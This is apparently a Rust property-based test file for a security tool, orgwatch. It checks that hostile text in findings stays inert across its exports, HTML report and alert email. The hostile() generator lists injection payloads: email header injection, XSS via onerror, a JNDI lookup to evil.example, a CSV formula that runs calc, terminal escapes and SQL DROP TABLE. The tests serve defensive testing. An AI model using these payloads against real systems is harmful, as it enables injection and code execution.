//! What an attacker wrote into a log is text and nothing else, whatever it is made of and wherever
//! it is told: property of every place at once, judged by parsers that know nothing of orgwatch.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::process::Command;

use html5ever::parse_document;
use html5ever::tendril::TendrilSink;
use mail_parser::MessageParser;
use markup5ever_rcdom::{Handle, NodeData, RcDom};
use orgwatch::lake::{FindingRow, Lake};
use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::TestRunner;
use serde_json::Value;

use crate::exports::acting;
use crate::findings_lake::{at, night, row};
use crate::other_tools::{call, python};
use crate::program::{expect, orgwatch};
use crate::sample::mails;

/// Findings of one lake; a mail shows at most fifty.
const FINDINGS: u32 = 40;

/// Text put together of what has broken other programs, and of anything at all.
fn hostile() -> impl Strategy<Value = String> {
    let known = [
        "\r\nBcc: evil@example.com\r\n\r\nread this",
        "\n.\nMAIL FROM:<evil@example.com>",
        "=?utf-8?B?PHNjcmlwdD4=?=",
        "<script>alert(1)</script>",
        "\"><img src=https://evil.example/x onerror=alert(1)>",
        "</pre></td></table><a href='https://evil.example'>here</a>",
        "<!--",
        "]]>",
        "&#x3c;b&#x3e;",
        "\u{1b}]0;owned\u{7}\u{1b}[2J",
        "\u{9b}31m",
        "\u{0}\u{8}\u{7f}\u{85}\u{2028}",
        "\u{202e}gnp.exe\u{2066}\u{200f}\u{200b}\u{feff}",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "{{ 7 * 7 }}{% raw %}{# #}",
        "${jndi:ldap://evil.example/x}",
        "{0} %s %n",
        "| a | b |\n|---|---|",
        "[a](javascript:alert(1)) ![b](https://evil.example/p.png)",
        "`code` **bold** # head\n- list",
        "\\\" \\u0022 ' '' \"\"",
        "1;DROP TABLE findings;--",
        "user@example.com",
    ];
    let piece = prop_oneof![
        4 => prop::sample::select(known.map(str::to_owned).to_vec()),
        1 => any::<String>(),
        1 => "[<>&\"'=+@|`\\\\]{1,8}",
        1 => (100_usize..6000).prop_map(|n| "A".repeat(n)),
    ];
    prop::collection::vec(piece, 1..5).prop_map(|pieces| pieces.concat())
}

fn texts() -> Vec<String> {
    let mut runner = TestRunner::deterministic();
    let tree = prop::collection::vec(hostile(), FINDINGS as usize).new_tree(&mut runner);
    tree.unwrap().current()
}

/// A lake whose findings have one of these texts wherever a log can put one, and an org that
/// mails to files.
fn lake(texts: &[String]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let config = "[store]\ndata_dir = \"data\"\n[alert.email]\ntransport = \"file\"\n\
                  from = \"orgwatch@example.com\"\nto = [\"soc@example.com\"]\n";
    fs::write(dir.path().join("orgwatch.toml"), config).unwrap();
    let mut lake = Lake::open_writer(&dir.path().join("data")).unwrap();
    let found = texts.iter().zip(1..).map(|(text, n)| FindingRow {
        username: Some(text.clone()),
        user_id: None,
        user_kind: Some(text.clone()),
        title: text.clone(),
        observed: text.clone(),
        expected: text.clone(),
        evidence_json: serde_json::json!({"ip": text, "app": text, "list": [text]}).to_string(),
        ..row(n, 11)
    });
    night(&mut lake, at(20, 3), &found.collect::<Vec<_>>(), true);
    dir
}

fn findings(dir: &Path, format: &str) -> String {
    expect(0, orgwatch(dir, &["findings", "list", "--format", format]))
}

fn page(dir: &Path) -> String {
    let report = [
        "report",
        "--format",
        "html",
        "--now",
        "2026-01-20T04:00:00Z",
    ];
    expect(0, orgwatch(dir, &report))
}

/// The mail of the next run.
fn mail(dir: &Path) -> Vec<u8> {
    let run = ["run", "--now", "2026-01-20T04:00:00Z", "empty"];
    fs::create_dir(dir.join("empty")).unwrap();
    orgwatch(dir, &run);
    let written = mails(&dir.join("data"));
    assert_eq!(written.len(), 1);
    fs::read(&written[0]).unwrap()
}

/// What a browser would make of it: each element with the names of its attributes, and every
/// address that it would go to.
fn elements(html: &str) -> BTreeSet<String> {
    fn walk(node: &Handle, found: &mut BTreeSet<String>) {
        if let NodeData::Element { name, attrs, .. } = &node.data {
            let attributes = attrs.borrow();
            let mut words = vec![name.local.to_string()];
            for attribute in attributes.iter() {
                let key = attribute.name.local.to_string();
                match key.as_str() {
                    "href" | "src" if !attribute.value.starts_with('#') => {
                        words.push(format!("{key}={}", attribute.value));
                    }
                    _ => words.push(key),
                }
            }
            found.insert(words.join(" "));
        }
        for child in node.children.borrow().iter() {
            walk(child, found);
        }
    }
    let dom = parse_document(RcDom::default(), Default::default()).one(html);
    let mut found = BTreeSet::new();
    walk(&dom.document, &mut found);
    found
}

/// What Python's own readers make of an export: the usernames, in its order.
fn read_by_python(format: &str, text: &str) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("export");
    fs::write(&file, text).unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/read_usernames.py");
    let read = call(Command::new(python()).arg(script).arg(format).arg(file));
    serde_json::from_str(&read).unwrap()
}

#[test]
fn text_of_any_kind_is_read_back_from_each_export_as_it_was_and_breaks_no_row() {
    let texts = texts();
    let dir = lake(&texts);
    let expected: BTreeSet<&String> = texts.iter().collect();
    for format in ["json", "jsonl", "ocsf", "sarif"] {
        let text = findings(dir.path(), format);
        assert_eq!(acting(&text), Vec::<char>::new(), "{format}");
        let read = read_by_python(format, &text);
        assert_eq!(read.len(), texts.len(), "{format}");
        assert_eq!(read.iter().collect::<BTreeSet<_>>(), expected, "{format}");
    }
    let read = read_by_python("csv", &findings(dir.path(), "csv"));
    assert_eq!(read.len(), texts.len());
    let mut guarded = 0;
    for cell in &read {
        let is_formula = |text: &str| text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
        assert!(!is_formula(cell), "{cell:?}");
        let bare = cell.strip_prefix('\'').filter(|bare| is_formula(bare));
        guarded += usize::from(bare.is_some());
        let whole = bare.unwrap_or(cell).to_owned();
        assert!(expected.contains(&whole), "{cell:?}");
    }
    assert!(guarded > 3, "{guarded}");
}

#[test]
fn text_of_any_kind_acts_on_no_terminal_and_makes_no_row_of_its_own() {
    let texts = texts();
    let dir = lake(&texts);
    for format in ["table", "markdown"] {
        let text = findings(dir.path(), format);
        assert_eq!(acting(&text), Vec::<char>::new(), "{format}");
    }
    let markdown = findings(dir.path(), "markdown");
    let walls = |line: &str| line.matches('|').count() - line.matches("\\|").count();
    let rows: Vec<usize> = markdown.lines().map(walls).collect();
    assert_eq!(rows.len(), texts.len() + 2);
    assert!(rows.iter().all(|n| *n == rows[0]), "{rows:?}");
    let id = row(1, 11).finding_id;
    let shown = expect(0, orgwatch(dir.path(), &["findings", "show", &id]));
    assert_eq!(acting(&shown), Vec::<char>::new());
}

#[test]
fn text_of_any_kind_adds_nothing_to_the_page_or_the_mail_but_text() {
    let plain: Vec<String> = (1..=FINDINGS).map(|n| format!("plain {n}")).collect();
    let (hostile, plain) = (lake(&texts()), lake(&plain));

    let (ours, theirs) = (page(plain.path()), page(hostile.path()));
    assert_eq!(elements(&theirs), elements(&ours));
    assert_eq!(acting(&theirs), Vec::<char>::new());

    let (ours, theirs) = (mail(plain.path()), mail(hostile.path()));
    let parse = |bytes| MessageParser::default().parse(bytes).unwrap();
    let (ours, theirs) = (parse(&ours), parse(&theirs));
    let names = |mail: &mail_parser::Message<'_>| -> Vec<String> {
        let headers = mail.headers().iter();
        headers.map(|header| header.name().to_owned()).collect()
    };
    assert_eq!(names(&theirs), names(&ours));
    assert_eq!(theirs.attachment_count(), 0);
    let to = |mail: &mail_parser::Message<'_>| format!("{:?}{:?}", mail.to(), mail.bcc());
    assert_eq!(to(&theirs), to(&ours));
    let subject = theirs.subject().unwrap();
    assert!(
        acting(subject).is_empty() && !subject.contains('\n'),
        "{subject:?}"
    );
    let text = theirs.body_text(0).unwrap();
    assert_eq!(acting(&text), Vec::<char>::new());
    let html = |mail: &mail_parser::Message<'_>| mail.body_html(0).unwrap().into_owned();
    assert_eq!(elements(&html(&theirs)), elements(&html(&ours)));
    // Every finding is told, and told once.
    for n in 1..=FINDINGS {
        let id = row(n, 11).finding_id;
        let told = text.lines().filter(|line| line.ends_with(&id)).count();
        assert_eq!(told, 1, "finding {n} in {text}");
    }
    let value: Value = serde_json::from_str(&findings(hostile.path(), "json")).unwrap();
    assert_eq!(value.as_array().unwrap().len(), FINDINGS as usize);
}
